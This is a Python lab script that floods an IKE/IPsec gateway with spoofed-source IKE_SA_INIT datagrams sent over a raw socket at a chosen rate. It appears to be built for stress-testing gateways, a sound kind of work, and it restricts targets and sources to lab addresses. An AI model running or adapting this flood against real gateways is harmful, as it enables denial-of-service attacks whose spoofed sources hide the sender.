"""A forged-source IKE_SA_INIT flood, for the lab only.

Run inside a client namespace (root: it needs a raw socket)::

    python -m lab.flood --target 198.18.0.1 --rate 3000 --seconds 12 \\
        --sources 198.19.64.0/18 --sources 198.19.128.0/17

Every datagram is a well-formed IKE_SA_INIT (the lab initiator's, with a
fresh SPIi) from a source address taken in turn from the `--sources`
networks, as a spoofing attacker sends them: nothing ever comes back to the
sender. Targets and sources must be lab addresses (198.18.0.0/15); the run
is bounded by `--seconds` and `--count`. Prints a JSON summary.
"""

from __future__ import annotations

import argparse
import ipaddress
import itertools
import json
import os
import socket
import struct
import sys
import time
from collections.abc import Iterator

from lab.initiator import Initiator, InitiatorOptions
from lab.netns import check_lab_address

IKE_PORT = 500
BATCH_INTERVAL = 0.005  # seconds between pacing checks


def ike_sa_init_template(target: str) -> bytes:
    """One IKE_SA_INIT request as the lab initiator builds it (NSA suite,
    group 15 KE, nonce, NAT-D, fragmentation): captured, never sent."""
    sent: list[bytes] = []

    def capture(datagram: bytes) -> list[bytes]:
        sent.append(datagram)
        return []

    client = Initiator(InitiatorOptions(local=("198.18.0.254", IKE_PORT), remote=(target, IKE_PORT)), capture)
    try:
        client.ike_sa_init()
    except Exception:  # no answer, by design: only the request was wanted
        pass
    return sent[0]


def sources(networks: list[str]) -> Iterator[bytes]:
    """Source addresses, round robin over the networks' hosts."""
    hosts: list[Iterator[ipaddress.IPv4Address]] = []
    for net in networks:
        network = ipaddress.IPv4Network(check_lab_address(net))
        hosts.append(itertools.cycle(network.hosts()))
    for pick in itertools.cycle(hosts):
        yield next(pick).packed


def datagram(template: bytes, source: bytes, target: bytes) -> bytes:
    payload = os.urandom(8) + template[8:]  # a fresh SPIi each time
    udp = struct.pack("!HHHH", IKE_PORT, IKE_PORT, 8 + len(payload), 0)  # checksum 0: none (RFC 768)
    # the kernel fills the IP checksum and ID of an IPPROTO_RAW datagram
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0, 0, 64,
                     socket.IPPROTO_UDP, 0, source, target)
    return ip + udp + payload


def flood(target: str, networks: list[str], rate: float, seconds: float, count: int) -> dict[str, object]:
    check_lab_address(target)
    template = ike_sa_init_template(target)
    packed_target = ipaddress.ip_address(target).packed
    forged = sources(networks)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = errors = 0
    start = time.monotonic()
    try:
        while sent < count:
            elapsed = time.monotonic() - start
            if elapsed >= seconds:
                break
            due = min(count, int(rate * elapsed) + 1)
            while sent < due:
                try:
                    sock.sendto(datagram(template, next(forged), packed_target), (target, 0))
                except OSError:
                    errors += 1  # a full queue: the rate is best effort
                sent += 1
            time.sleep(BATCH_INTERVAL)
    finally:
        sock.close()
    duration = time.monotonic() - start
    return {"sent": sent, "send_errors": errors, "seconds": round(duration, 3),
            "rate": round(sent / duration, 1) if duration else 0.0}


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m lab.flood", description=__doc__.split("\n\n")[0])
    p.add_argument("--target", required=True, help="the gateway's lab address")
    p.add_argument("--sources", action="append", required=True, metavar="NETWORK",
                   help="a lab network to forge source addresses from (repeatable)")
    p.add_argument("--rate", type=float, default=3000.0, help="datagrams per second")
    p.add_argument("--seconds", type=float, default=10.0, help="stop after this long")
    p.add_argument("--count", type=int, default=10**7, help="stop after this many datagrams")
    args = p.parse_args(argv)
    try:
        summary = flood(args.target, args.sources, args.rate, args.seconds, args.count)
    except ValueError as exc:
        print(f"lab.flood: {exc}", file=sys.stderr)
        return 2
    print(json.dumps(summary))
    return 0


if __name__ == "__main__":
    sys.exit(main())
